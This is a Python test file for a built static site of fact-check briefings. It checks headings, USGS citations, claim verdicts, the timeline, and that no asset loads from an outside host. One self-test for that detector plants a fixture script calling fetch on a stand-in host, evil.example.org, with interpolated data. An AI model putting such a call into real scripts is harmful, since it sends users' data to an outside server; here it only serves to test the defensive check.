"""The built example site, as a reader and a checker would see it (issue 2)."""

from __future__ import annotations

import fnmatch
import re
from html.parser import HTMLParser
from pathlib import Path

from devtools.projects import EXAMPLE_SLUG


def page(built: Path, *parts: str) -> str:
    return (built / "site" / Path(*parts) / "index.html").read_text(encoding="utf-8")


class Elements(HTMLParser):
    """Collects elements with their attributes and (flattened) text."""

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[dict] = []
        self.found: list[dict] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = {"tag": tag, "attrs": dict(attrs), "text": ""}
        self.found.append(element)
        if tag not in ("br", "img", "input", "meta", "link", "hr", "source", "wbr"):
            self.stack.append(element)

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i]["tag"] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data: str) -> None:
        for element in self.stack:
            element["text"] += data


def elements(html: str) -> list[dict]:
    parser = Elements()
    parser.feed(html)
    return parser.found


def test_site_has_home_briefing_and_sources_pages(built_example: Path) -> None:
    site = built_example / "site"
    for rel in (
        "index.html",
        f"briefings/{EXAMPLE_SLUG}/index.html",
        "briefings/index.html",
        "briefings/sources/index.html",
        "briefings/facts.json",
    ):
        assert (site / rel).is_file(), rel
    home = page(built_example)
    assert f'href="briefings/{EXAMPLE_SLUG}/"' in home
    assert "Putin's rare-earth and aluminium offer" in home.replace("&#39;", "'")


def test_every_generated_heading_is_its_page_title(built_example: Path) -> None:
    """The first heading of each generated page is its title, no more: a template that
    swallows the blank line after it runs the next paragraph into the heading. (The
    hand-written pages take their <title> from the navigation's labels instead.)"""
    from sitecheck import html_pages

    site = built_example / "site"
    wrong = {}
    generated = [p for p in html_pages(site) if p.is_relative_to(site / "briefings")]
    assert len(generated) >= 5
    for path in generated:
        found = elements(path.read_text(encoding="utf-8"))
        title = next(e["text"] for e in found if e["tag"] == "title")
        h1 = next((e["text"].replace("¶", "").strip() for e in found if e["tag"] == "h1"), "")
        if not h1 or not title.startswith(h1):
            wrong[str(path.relative_to(site))] = (h1, title)
    assert wrong == {}, wrong


def test_reserves_figure_links_to_usgs_source(built_example: Path) -> None:
    html = page(built_example, "briefings", EXAMPLE_SLUG)
    found = elements(html)
    facts = [e for e in found if e["attrs"].get("data-fact") == "ree-reserves-2025-russia"]
    assert facts and facts[0]["text"] == "3.8 million t REO"
    assert "U.S. Geological Survey" in facts[0]["attrs"]["data-tip"]
    assert "as of 2024" in facts[0]["attrs"]["data-tip"]
    # The citation right after the figure points at the USGS entry of the source list ...
    cite = re.search(
        r'data-fact="ree-reserves-2025-russia"[^>]*>3\.8 million t REO</span>'
        r'<sup class="cite" data-search-exclude>\[<a href="#(source-[a-z0-9-]+)"',
        html,
    )
    assert cite, "figure is not followed by a citation"
    entry = next(e for e in found if e["attrs"].get("id") == cite.group(1))
    assert "U.S. Geological Survey" in entry["text"]
    # ... which links to the publication itself.
    assert re.search(
        rf'id="{cite.group(1)}".*?href="https://pubs\.usgs\.gov/[^"]+rare-earths\.pdf"', html, re.S
    )


def test_three_claims_that_do_not_hold_carry_their_verdicts(built_example: Path) -> None:
    found = elements(page(built_example, "briefings", EXAMPLE_SLUG))
    claims = {
        e["attrs"]["id"]: e
        for e in found
        if e["tag"] == "article" and e["attrs"].get("id", "").startswith("claim-")
    }
    expected = {
        "claim-putin-15pct-us-al-imports": ("Misleading", "15%", "14.6%"),
        "claim-ru-ree-mine-2500t-concentrate": ("Misleading", "2,500 tons of concentrate", "oxide"),
        "claim-ru-ree-reserves-fifth-largest": ("Outdated", "fifth-largest", "4th"),
    }
    for claim_id, (verdict, words, evidence) in expected.items():
        text = " ".join(claims[claim_id]["text"].split())
        assert verdict in text, claim_id
        assert words in text, claim_id
        assert evidence in text, claim_id


def test_timeline_lists_tariff_and_remarks_in_order(built_example: Path) -> None:
    found = elements(page(built_example, "briefings", EXAMPLE_SLUG))
    items = [
        e for e in found if e["tag"] == "li" and "timeline__item" in e["attrs"].get("class", "")
    ]
    dates = [
        next(x for x in found if x["tag"] == "time" and x in found[found.index(i) :])["attrs"][
            "datetime"
        ]
        for i in items
    ]
    assert dates == sorted(dates)
    texts = {" ".join(i["text"].split()) for i in items}
    assert any(t.startswith("24 February 2023") and "Proclamation 10522" in t for t in texts)
    assert any(t.startswith("24 February 2025") for t in texts)


# Pages and stylesheets may not load anything from another site.
HTML_CSS_REMOTE = [
    r'\bsrc=["\']?https?://',
    r'<link[^>]+rel=["\']?stylesheet[^>]+href=["\']?https?://',
    r'url\(\s*["\']?https?://',
]
# A script can only load what it names in a string, so every quoted absolute address in the
# site's scripts (host, or "${" where the script builds one) must be one of these, each known
# to load nothing here. test_offline.py backs this up in the browser, where nothing may
# leave 127.0.0.1; this check also covers code paths a page load does not take.
SCRIPT_HOSTS = {
    # Material's bundle: mermaid and a ResizeObserver polyfill from unpkg, loaded only for a
    # page with a mermaid diagram or a browser without ResizeObserver (none here), and the
    # repository facts from GitHub or GitLab (`${host}`), fetched only when mkdocs.yml sets
    # repo_url, which it does not.
    "assets/javascripts/bundle.*.min.js": {"unpkg.com", "api.github.com", "${"},
    # Vega: XML namespaces, its own schema's id, and the "Open in Vega Editor" link of the
    # actions menu.
    "briefings/_assets/vega-bundle.js": {"www.w3.org", "vega.github.io"},
    # Pagefind: a base that resolves relative result URLs (never requested), an SVG namespace.
    "pagefind/pagefind.js": {"example.com"},
    "pagefind/pagefind-worker.js": {"example.com"},
    "pagefind/pagefind-ui.js": {"www.w3.org"},
}
QUOTED_ADDRESS = re.compile(
    r"""["'`](?:https?:)?//((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|\$\{)""")


def external_references(site: Path) -> list[str]:
    """Every reference to another site that a page, stylesheet or script of `site` holds
    and that is not on the lists above."""
    offenders = []
    for path in sorted(site.rglob("*")):
        if path.suffix not in (".html", ".css", ".js") or not path.is_file():
            continue
        rel = path.relative_to(site).as_posix()
        text = path.read_text(encoding="utf-8", errors="replace")
        if path.suffix == ".js":
            allowed = set().union(*(hosts for pattern, hosts in SCRIPT_HOSTS.items()
                                    if fnmatch.fnmatch(rel, pattern)))
            offenders += [f"{rel}: {text[m.start(): m.start() + 80]}"
                          for m in QUOTED_ADDRESS.finditer(text) if m.group(1) not in allowed]
            continue
        for pattern in HTML_CSS_REMOTE:
            offenders += [f"{rel}: {text[m.start(): m.start() + 80]}"
                          for m in re.finditer(pattern, text)]
    return offenders


def test_pages_carry_no_external_resources(built_example: Path) -> None:
    site = built_example / "site"
    scripts = {p.relative_to(site).as_posix() for p in site.rglob("*.js")}
    assert {"briefings/_assets/charts.js", "briefings/_assets/vega-bundle.js",
            "pagefind/pagefind-ui.js"} <= scripts  # the scripts checked are there
    assert external_references(site) == []


def test_the_external_reference_check_can_fail(tmp_path: Path) -> None:
    """The check above finds what it looks for: in pages, stylesheets, our own scripts and
    third-party ones (a host their list does not hold)."""
    (tmp_path / "briefings" / "_assets").mkdir(parents=True)
    (tmp_path / "index.html").write_text('<img src="https://cdn.example.org/x.png">')
    (tmp_path / "a.css").write_text("b{background:url( 'http://x.example.org/y.png')}")
    (tmp_path / "briefings" / "_assets" / "charts.js").write_text(
        'import("https://cdn.jsdelivr.net/npm/vega@5"); fetch(`//evil.example.org/${x}`);')
    (tmp_path / "briefings" / "_assets" / "vega-bundle.js").write_text(
        'const ns = "http://www.w3.org/2000/svg"; load("https://unpkg.com/vega-lite");')
    found = external_references(tmp_path)
    assert len(found) == 5, found
    assert not any("www.w3.org" in f for f in found)


def test_generated_markdown_lives_in_owned_folder(built_example: Path) -> None:
    generated = built_example / "docs" / "briefings"
    assert (generated / EXAMPLE_SLUG / "index.md").is_file()
    hand_written = {p.name for p in (built_example / "docs").iterdir()}
    assert {"index.md", "methodology.md", "about.md", "guide.md"} <= hand_written


def test_briefing_pages_are_not_in_the_sidebar(built_example: Path) -> None:
    # With hundreds of briefings, a sidebar listing each would repeat on every page.
    html = page(built_example, "briefings", "sources")
    nav = html[html.find('class="md-nav md-nav--primary') :]
    assert 'href="../"' in nav  # the list of briefings is in it ...
    assert EXAMPLE_SLUG not in nav[: nav.find("</nav>")]  # ... each briefing is not
